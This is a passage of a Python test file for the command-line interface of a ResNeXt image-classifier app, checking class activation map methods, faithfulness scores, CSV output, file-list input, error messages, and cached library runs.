    assert text["Method"] == "Layer-CAM" and text["Layer"] == "layer4" and text["Class"] == rec["top"][0]["label"]
    assert text["Source"] == "rocket.jpg"  # the file's name, never its folder
    r = run_cli("classify", "--weights", checkpoint, "--cam-dir", tmp_path, tree / "rocket.jpg")
    rec = lines(r.stdout)[0]
    assert "cam_method" not in rec and Path(rec["cam_png"]).name == "rocket.cam.png"  # the default: as it always was
    assert Image.open(rec["cam_png"]).text["Method"] == "Grad-CAM"
    assert not np.allclose(np.load(rec["cam_npy"]), np.load(tmp_path / "rocket.layercam.cam.npy"))


def test_score_cam_and_faithfulness_per_photo(checkpoint, tree, tmp_path, monkeypatch):
    """Score-CAM through the CLI (its maps cut to 8 activation maps here: the full 2048 passes are the core's to
    test), and the faithfulness figures of the map written, at 5 steps instead of 20 to keep the test short."""
    from resnext_gui.core import faithfulness
    from resnext_gui.core.classifier import Classifier

    real = Classifier.score_cams
    asked = []

    def few_maps(self, item, classes, layer="layer4", progress=None, cancelled=None, **kw):
        asked.append((list(classes), layer))
        return real(self, item, classes, layer, progress, cancelled, channels=range(8))

    monkeypatch.setattr(Classifier, "score_cams", few_maps)
    monkeypatch.setattr(faithfulness, "DEFAULT_STEPS", 5)
    r = run_cli("classify", "--weights", checkpoint, "--cam-method", "scorecam", "--faithfulness", "--cam-dir", tmp_path,
                tree / "album" / "cat.png", tmp_path / "missing.png")
    assert r.returncode == 1, r.stderr
    rec, missing = lines(r.stdout)
    assert rec["cam_method"] == "scorecam" and asked == [([t["index"] for t in rec["top"]], "layer4")]
    assert "Score-CAM of" in r.stderr and missing["ok"] is False and "does not exist" in missing["error"]
    assert Path(rec["cam_png"]).name == "cat.scorecam.cam.png"
    f = rec["faithfulness"]
    assert f["method"] == "scorecam" and f["class_index"] == rec["top"][0]["index"] and f["label"] == rec["top"][0]["label"]
    assert len(f["deletion"]) == len(f["insertion"]) == 6 and f["prob"] == pytest.approx(rec["top"][0]["prob"], abs=1e-3)
    assert 0 <= f["deletion_auc"] <= 1 and 0 <= f["random_insertion_auc"] <= 1
    assert f["sentence"].startswith("hiding the brightest 20 % of this map") and rec["top"][0]["label"] in f["sentence"]


def test_cam_method_csv_column_and_bad_names(checkpoint, tree):
    r = run_cli("classify", "--weights", checkpoint, "--format", "csv", "--cam-method", "eigencam", tree / "rocket.jpg")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert rows[0]["cam_method"] == "eigencam" and "faithfulness.deletion_auc" not in rows[0]
    r = run_cli("classify", "--weights", checkpoint, "--cam-method", "gradcam+", tree / "rocket.jpg")
    assert r.returncode == 2 and "invalid choice: 'gradcam+'" in r.stderr and "gradcam++" in r.stderr
    from resnext_gui.core.records import csv_header, csv_row

    extra = ("cam_method", "faithfulness.deletion_auc", "faithfulness.deletion")
    row = csv_row({"path": "a.jpg", "ok": True, "top": [], "cam_method": "hirescam",
                   "faithfulness": {"deletion_auc": 0.25, "deletion": [1.0, 0.5]}}, 1, extra)
    assert dict(zip(csv_header(1, extra), row))["faithfulness.deletion_auc"] == 0.25
    assert row[-3:] == ["hirescam", 0.25, ""]  # a list has no cell of its own


def test_classify_help_states_score_cams_cost():
    r = run_cli("classify", "--help")
    assert r.returncode == 0
    text = " ".join(r.stdout.split())
    assert "2048 at layer4, 1024 at layer3, 512 at layer2" in text and "--faithfulness" in text


def test_paths_from_a_list_file_or_standard_input(checkpoint, tree, tmp_path):
    """--files-from: the same records as the paths on the command line, in the list's order, after them."""
    direct = run_cli("classify", "--weights", checkpoint, tree / "rocket.jpg", tree / "album")
    listing = tmp_path / "list.txt"
    listing.write_text(f"\n{tree / 'album'}\n")
    listed = run_cli("classify", "--weights", checkpoint, tree / "rocket.jpg", "--files-from", listing)
    assert direct.returncode == listed.returncode == 0, listed.stderr
    strip = lambda out: [{k: v for k, v in o.items() if k != "ms"} for o in lines(out)]  # noqa: E731
    assert len(lines(direct.stdout)) == 3 and strip(listed.stdout) == strip(direct.stdout)
    piped = subprocess.run([sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint),
                            "--files-from", "-"], input=f"{tree / 'rocket.jpg'}\n{tree / 'album'}\n",
                           capture_output=True, text=True, cwd=REPO, timeout=180)
    assert piped.returncode == 0, piped.stderr
    assert strip(piped.stdout) == strip(direct.stdout)


def test_no_photos_named_or_a_list_that_cannot_be_read(checkpoint, tmp_path):
    r = run_cli("classify", "--weights", checkpoint)
    assert r.returncode == 2 and "name the photos: PATH... or --files-from FILE" in r.stderr
    r = run_cli("classify", "--weights", checkpoint, "--files-from", tmp_path / "no list.txt")
    assert r.returncode == 2 and f"--files-from {tmp_path / 'no list.txt'} cannot be read: No such file" in r.stderr
    assert r.stdout == ""


# ---- no weights, a build without PyTorch, Score-CAM's time left, a run the library answers wholly ----
def test_weights_info_without_weights_prints_json_saying_none_was_found():
    from resnext_gui.core import weights as W

    r = run_cli("weights", "info")
    assert r.returncode == 1, r.stderr  # nothing found: not a usage error (2), not success (0)
    got = json.loads(r.stdout)
    assert got["found"] is False and got["path"] is None
    places = [p["place"] for p in got["looked_in"]]
    assert len(places) == len(set(places)) and str(W.hub_checkpoint_dir()) in places
    assert any(W.VARIANTS["v2"].filename in p["files"] for p in got["looked_in"])
    assert "resnext-gui weights fetch" in r.stderr


def test_backend_torch_in_a_build_without_pytorch_is_a_clear_message(checkpoint, tree, monkeypatch):
    from resnext_gui.core import classifier, devices

    monkeypatch.setattr(devices, "torch_installed", lambda: False)
    monkeypatch.setattr(classifier, "torch_installed", lambda: False)
    r = run_cli("classify", "--weights", checkpoint, "--backend", "torch", tree / "rocket.jpg")
    assert r.returncode == 2 and r.stdout == ""
    assert "--backend torch: this build of the app has no PyTorch" in r.stderr and "--backend auto" in r.stderr
    assert "OpenVINO is not available" not in r.stderr and "Traceback" not in r.stderr


def test_score_cam_progress_says_the_time_left(checkpoint, tree, monkeypatch):
    """The time left comes from the rate of the masked passes so far, on a clock the test moves: 1.5 s a batch."""
    from resnext_gui.cli import classify as cli_classify
    from resnext_gui.core.classifier import Classifier

    now = [0.0]
    monkeypatch.setattr(cli_classify, "CLOCK", lambda: now[0])
    real = Classifier.score_cams

    def passes(self, item, classes, layer="layer4", progress=None, cancelled=None, **kw):
        for done in range(16, 2049, 16):  # 2048 maps, 16 a pass, as at layer4
            now[0] += 1.5
            progress(done, 2048)
        return real(self, item, classes, layer, None, cancelled, channels=range(8))

    monkeypatch.setattr(Classifier, "score_cams", passes)
    r = run_cli("classify", "--weights", checkpoint, "--cam-method", "scorecam", tree / "album" / "cat.png")
    assert r.returncode == 0, r.stderr
    name = f"resnext-gui: Score-CAM of {tree / 'album' / 'cat.png'}"
    said = [line for line in r.stderr.splitlines() if "Score-CAM of" in line]
    # 10 % is 208 maps done: 192 of them in 18 s since the first pass, 1840 to go: 172 s; 20 %: 416 done, 153 s
    assert said[:3] == [f"{name}…", f"{name}: 10%, about 3 min left", f"{name}: 20%, about 3 min left"]
    assert said[-1] == f"{name}: 91%, about 20 s left" and len(said) == 10  # 1856 done: 12 passes, 18 s


def test_a_run_the_library_answers_wholly_prepares_no_model(checkpoint, album, tmp_path, monkeypatch):
    from resnext_gui.core.classifier import Classifier

    started = []
    real = Classifier._start_runtime

    def counting(self, *args, **kwargs):
        started.append(self)
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Classifier, "_start_runtime", counting)
    lib = tmp_path / "library.sqlite3"
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, *album[:3])
    assert r.returncode == 0, r.stderr
    assert len(started) == 1
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, *album[:3])
    assert r.returncode == 0, r.stderr
    assert [o.get("cached") for o in lines(r.stdout)] == [True] * 3
    assert len(started) == 1 and "Preparing" not in r.stderr  # no runtime was started for the second run
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, *album[:4])  # one photo it does not know
    assert r.returncode == 0, r.stderr
    assert [o.get("cached", False) for o in lines(r.stdout)] == [True, True, True, False] and len(started) == 2
